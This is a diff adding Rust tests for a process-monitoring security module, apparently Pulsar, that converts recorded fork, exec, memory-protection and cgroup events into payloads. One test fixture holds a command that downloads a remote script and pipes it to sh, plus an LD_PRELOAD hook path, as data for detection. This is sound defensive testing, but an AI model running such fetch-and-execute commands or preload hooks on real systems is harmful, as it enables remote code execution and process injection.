@@ -0,0 +1,104 @@
+//! Conversion of the recorded events of `fixtures/`, which runs without root
+//! privileges or eBPF support.
+
+use bpf_common::fixtures;
+use process_monitor::ProcessEvent;
+use pulsar_core::pdk::{IntoPayload, Payload};
+
+const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/events.fixture");
+
+fn payloads() -> Vec<Payload> {
+    fixtures::load::<ProcessEvent>(FIXTURE)
+        .unwrap()
+        .into_iter()
+        .map(|event| ProcessEvent::try_into_payload(event).unwrap())
+        .collect()
+}
+
+#[test]
+fn shell_pipeline() {
+    let payloads = payloads();
+    let Payload::Fork { ppid, namespaces } = &payloads[0] else {
+        panic!("unexpected payload {:?}", payloads[0]);
+    };
+    assert_eq!(*ppid, 1000);
+    assert_eq!(namespaces.mnt, 4026531841);
+
+    let Payload::Exec {
+        filename,
+        argc,
+        argv,
+        script,
+        shell,
+        env,
+        cwd,
+        chrooted,
+        ..
+    } = &payloads[1]
+    else {
+        panic!("unexpected payload {:?}", payloads[1]);
+    };
+    assert_eq!(filename, "/bin/sh");
+    assert_eq!(*argc, 3);
+    assert_eq!(
+        Vec::from(argv.clone()),
+        vec!["sh", "-c", "curl -s https://example.com/x.sh | sh"]
+    );
+    assert_eq!(script, "");
+    assert_eq!(shell.programs, vec!["curl", "sh"]);
+    assert_eq!(shell.pipelines, vec!["curl|sh"]);
+    assert_eq!(env, &vec!["LD_PRELOAD=/tmp/hook.so".to_string()]);
+    assert_eq!(cwd, "/root");
+    assert!(!chrooted);
+}
+
+#[test]
+fn chrooted_script() {
+    let payloads = payloads();
+    let Payload::Exec {
+        filename,
+        script,
+        env,
+        chrooted,
+        ..
+    } = &payloads[2]
+    else {
+        panic!("unexpected payload {:?}", payloads[2]);
+    };
+    assert_eq!(filename, "/usr/bin/python3.11");
+    assert_eq!(script, "/srv/app/job.py");
+    assert!(env.is_empty());
+    assert!(chrooted);
+
+    let Payload::ExecMemory {
+        syscall,
+        address,
+        length,
+        anonymous,
+        writable,
+        ..
+    } = &payloads[3]
+    else {
+        panic!("unexpected payload {:?}", payloads[3]);
+    };
+    assert_eq!(syscall, "mprotect");
+    assert_eq!((*address, *length), (0x7f3a_2c00_0000, 8192));
+    assert!(anonymous);
+    assert!(!writable);
+
+    assert!(matches!(payloads[4], Payload::Exit { exit_code: 0 }));
+}
+
+#[test]
+fn cgroups() {
+    let payloads = payloads();
+    let Payload::CgroupCreated {
+        cgroup_path,
+        cgroup_id,
+    } = &payloads[5]
+    else {
+        panic!("unexpected payload {:?}", payloads[5]);
+    };
+    assert_eq!(cgroup_path, "/system.slice/app.service");
+    assert_eq!(*cgroup_id, 4242);
+}